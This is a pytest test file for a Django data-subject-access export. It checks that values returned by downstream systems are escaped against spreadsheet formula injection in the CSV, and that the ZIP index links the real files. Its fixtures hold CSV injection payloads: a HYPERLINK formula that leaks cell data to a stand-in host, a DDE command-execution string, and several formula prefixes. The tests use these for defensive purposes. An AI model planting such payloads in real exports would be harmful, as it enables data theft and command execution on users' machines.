"""Lying downstreams and planted data in an access package: a value a system returns (a name an
attacker typed into a CRM, a hostile peer's answer) must not become a formula when the subject
opens the CSV in a spreadsheet, and the index page must name the files the ZIP really holds."""

import csv
import io
import json
import re
import zipfile

import pytest
from django.core import mail

from dsar.audit.services import Actor
from dsar.fanout.models import DownstreamSystem
from dsar.workflow.models import Status
from dsar.workflow.services import create_request
from dsar.workflow.transitions import transition
from tests.factories import TEST_STAFF
from tests.support.signing import SECRET

pytestmark = pytest.mark.django_db(transaction=True)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open your data")'
DDE = "=cmd|' /C calc'!A0"
PLANTED = {
    "name": HYPERLINK,
    "note": DDE,
    "plus": "+SUM(1,1)",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    DDE: "a header is a cell too",
    "balance": -5,  # a number stays a number
    "rate": -2.5,
    "typed": "-5",  # a string may hold anything: escaped like any other
    "city": "Wuhan",
}


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.DSAR_EXPORT_DIR = str(tmp_path / "exports")


def package_of(client, downstream, *, system="crm", rows=None) -> zipfile.ZipFile:
    """The ZIP the subject downloads after an access request to one ``http`` system."""
    downstream.answers = [(200, {"rows": rows if rows is not None else [PLANTED]})]
    DownstreamSystem.objects.create(
        name=system, kind="http", actions=["export"],
        config=json.dumps({"url": downstream.url, "secret": SECRET}),
    )  # fmt: skip
    request = create_request(type="access", email="li.lei@example.com")
    transition(request, to=Status.IN_REVIEW, actor=Actor.subject())
    transition(request, to=Status.PROCESSING, actor=TEST_STAFF)
    [email] = [m for m in mail.outbox if "/exports/" in m.body]
    token = re.search(r"/exports/#t=(\S+)", email.body).group(1)
    response = client.post("/exports/", {"t": token})
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def test_formula_cells_and_headers_are_escaped_in_the_csv(client, downstream):
    archive = package_of(client, downstream)
    [header, row] = list(csv.reader(io.StringIO(archive.read("crm/rows.csv").decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert f"'{DDE}" in cells and DDE not in cells
    assert cells["name"] == f"'{HYPERLINK}" and cells["note"] == f"'{DDE}"
    for name in ("plus", "minus", "at", "tab", "cr", "typed"):
        assert cells[name] == "'" + PLANTED[name], name
    assert (cells["balance"], cells["rate"], cells["city"]) == ("-5", "-2.5", "Wuhan")
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert [c for c in header + row if c.startswith(dangerous)] == ["-5", "-2.5"]


def test_the_json_keeps_every_value_as_the_system_gave_it(client, downstream):
    archive = package_of(client, downstream)
    assert [json.loads(line) for line in archive.read("crm/rows.jsonl").splitlines()] == [PLANTED]


def test_index_names_the_files_the_zip_holds(client, downstream):
    """A system name that slugifies differently from the ZIP's own file names."""
    archive = package_of(client, downstream, system="CRM (EU)", rows=[{"city": "Wuhan"}])
    names = set(archive.namelist())
    assert {"CRM__EU_/rows.jsonl", "CRM__EU_/rows.csv"} <= names
    for page in ("index.html", "index.en.html"):
        linked = set(re.findall(r'href="([^"]+\.(?:jsonl|csv))"', archive.read(page).decode()))
        assert linked == {"CRM__EU_/rows.jsonl", "CRM__EU_/rows.csv"}, page
